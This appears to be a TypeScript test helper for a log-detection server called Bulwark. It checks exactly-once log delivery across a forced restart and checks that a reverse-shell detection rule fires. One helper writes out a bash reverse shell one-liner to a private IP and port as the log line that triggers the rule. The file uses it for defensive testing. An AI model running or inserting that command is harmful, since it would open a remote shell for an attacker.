/**
 * The Bulwark a shipper test points its shipper at: the real `npm start` process (test/support/bulwark-process.ts) on a
 * fixed loopback port, so it can be killed and started again on the same port and data directory while the shipper
 * keeps sending — a shipper is configured with one address and must ride out the restart itself.
 *
 * "Searchable exactly once" is read through `GET /v1/export` (every matching event, no cap), counting the `seq=` of
 * each line: a missing seq is a lost line, a seq seen twice a duplicate.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startBulwark, type BulwarkProcess } from '../support/bulwark-process.js';
import { freePort } from '../support/own-redis.js';
import { until } from '../support/until.js';

/** The dataset the bundled container rules read (packages/detection/src/logsource.ts, `product: container`). */
export const CONTAINER_DATASET = 'kubernetes.container_logs';
/** The index every documented log shipper writes to: `logs-<dataset>-<namespace>` gives that dataset. */
export const CONTAINER_INDEX = `logs-${CONTAINER_DATASET}-default`;

export interface ShipperTarget {
  port: number;
  url: string;
  /** An ingest token restricted to `sources: [logs]`, as README "Point your senders at it" says to mint. */
  token: string;
  bulwark: BulwarkProcess;
  /**
   * SIGKILL the process (nothing graceful: what was acknowledged must already be durable), run `whileDown` (e.g. write
   * more lines, so the shipper meets a refused connection), and start it again on the same port and data directory.
   */
  restart(whileDown?: () => Promise<void>): Promise<void>;
  stop(): Promise<void>;
}

// The shipper tests' fixed ports come from the suite-wide helper.
export { freePort };

export async function startTarget(tokenName: string): Promise<ShipperTarget> {
  const port = await freePort();
  const dir = mkdtempSync(join(tmpdir(), 'bwk-shippers-'));
  const env = { BULWARK_PORT: String(port) };
  let bulwark = await startBulwark({ dir, env, retryBusyPortMs: 10_000 });
  const admin = bulwark.admin;
  const { token } = await bulwark.mint(tokenName, ['ingest'], { sources: ['logs'] });
  const target: ShipperTarget = {
    port,
    url: `http://127.0.0.1:${port}`,
    token,
    get bulwark() {
      return bulwark;
    },
    async restart(whileDown) {
      const child = bulwark.child;
      if (child.exitCode === null && child.signalCode === null) {
        const exited = new Promise((resolve) => child.once('exit', resolve));
        child.kill('SIGKILL');
        await exited;
      }
      await whileDown?.();
      bulwark = await startBulwark({ dir, env, adminToken: admin, retryBusyPortMs: 10_000 });
    },
    async stop() {
      await bulwark.stop({ keepData: true });
      rmSync(dir, { recursive: true, force: true });
    },
  };
  return target;
}

/** `n` lines a test sends, each naming the run's marker (one search word) and its own sequence number. */
export function numberedLines(marker: string, n: number, text = 'GET /healthz 200'): string[] {
  return Array.from({ length: n }, (_, i) => `${marker} seq=${String(i).padStart(5, '0')} ${text}`);
}

/** Every stored event whose text contains `marker`, through the export route. */
export async function exportEvents(target: ShipperTarget, marker: string): Promise<Array<Record<string, any>>> {
  const q = new URLSearchParams({ q: marker, from: 'now-24h', to: 'now+1h', format: 'ndjson' });
  const res = await target.bulwark.fetch(`/v1/export?${q}`);
  assert.equal(res.status, 200, `GET /v1/export: ${res.status}`);
  const text = await res.text();
  return text.split('\n').filter((l) => l.trim()).map((l) => JSON.parse(l) as Record<string, any>);
}

/** How often each `seq=` of the marker's lines is stored. */
export async function seqCounts(target: ShipperTarget, marker: string): Promise<Map<number, number>> {
  const counts = new Map<number, number>();
  for (const event of await exportEvents(target, marker)) {
    const m = /seq=(\d+)/.exec(String(event.message ?? ''));
    if (m) counts.set(Number(m[1]), (counts.get(Number(m[1])) ?? 0) + 1);
  }
  return counts;
}

/**
 * Waits until all `n` lines are stored, then asserts each exactly once (a duplicate fails at once, not at the
 * deadline) and that each landed in the container dataset.
 */
export async function assertExactlyOnce(target: ShipperTarget, marker: string, n: number, ms = 90_000): Promise<void> {
  let last = new Map<number, number>();
  let dup: [number, number] | undefined;
  await until(
    `all ${n} lines of ${marker} stored (${last.size} so far)`,
    async () => {
      last = await seqCounts(target, marker);
      dup = [...last].find(([, c]) => c > 1);
      return dup !== undefined || last.size === n;
    },
    ms,
    500,
  );
  assert.equal(dup, undefined, `seq ${dup?.[0]} of ${marker} stored ${dup?.[1]} times`);
  for (let i = 0; i < n; i++) assert.equal(last.get(i), 1, `seq ${i} of ${marker} stored ${last.get(i) ?? 0} times`);
  const datasets = new Set((await exportEvents(target, marker)).map((e) => e.event?.dataset));
  assert.deepEqual([...datasets], [CONTAINER_DATASET], `datasets of ${marker}'s events`);
}

/** A marker word unique to one run (search tokenises on non-word characters, so letters and digits only). */
export function marker(prefix: string): string {
  return `${prefix}${Date.now().toString(36)}${Math.floor(Math.random() * 1e6).toString(36)}`;
}

/** The bundled rule rules/container/reverse_shell_one_liner.yml, which reads the container dataset. */
export const REVERSE_SHELL_RULE = '194308d5-2a44-4cbb-9694-f55d1ff03b65';

/** A log line that rule matches, carrying the run's marker. */
export function reverseShellLine(marker: string): string {
  return `${marker} health check: bash -i >& /dev/tcp/10.0.0.9/4444 0>&1`;
}

/** Waits for the stored event of `marker`'s line to be evidence of an alert of the reverse shell rule. */
export async function assertContainerRuleAlert(target: ShipperTarget, marker: string, ms = 60_000): Promise<void> {
  const ids = await until(`${marker}'s line stored`, async () => {
    const events = await exportEvents(target, marker);
    return events.length > 0 && events.map((e) => String(e.event?.id));
  }, ms, 500);
  await until(
    `an alert of rule ${REVERSE_SHELL_RULE} naming ${marker}'s event`,
    async () => {
      const body = await target.bulwark.get<{ items: Array<{ rule: { id: string }; event_ids: string[] }> }>(`/v1/alerts?rule=${REVERSE_SHELL_RULE}`);
      return body.items.some((a) => a.rule.id === REVERSE_SHELL_RULE && a.event_ids.some((id) => ids.includes(id)));
    },
    ms,
    500,
  );
}

/**
 * The restart scenario of the daemons that tail a file (rsyslog, syslog-ng): 3000 lines, the first half written while
 * Bulwark runs and is SIGKILLed 300 ms later, the second half written while it is down (the shipper meets a refused
 * connection and must queue); every line stored exactly once in the container dataset; then a reverse-shell line
 * raises the container rule.
 */
export async function linesThroughRestart(target: ShipperTarget, write: (lines: string[]) => void, prefix: string): Promise<void> {
  const m = marker(prefix);
  const lines = numberedLines(m, 3000);
  write(lines.slice(0, 1500));
  await new Promise((r) => setTimeout(r, 300));
  await target.restart(async () => {
    write(lines.slice(1500));
    await new Promise((r) => setTimeout(r, 1_000));
  });
  await assertExactlyOnce(target, m, 3000);
  const attack = marker(`${prefix}attack`);
  write([reverseShellLine(attack)]);
  await assertContainerRuleAlert(target, attack);
}
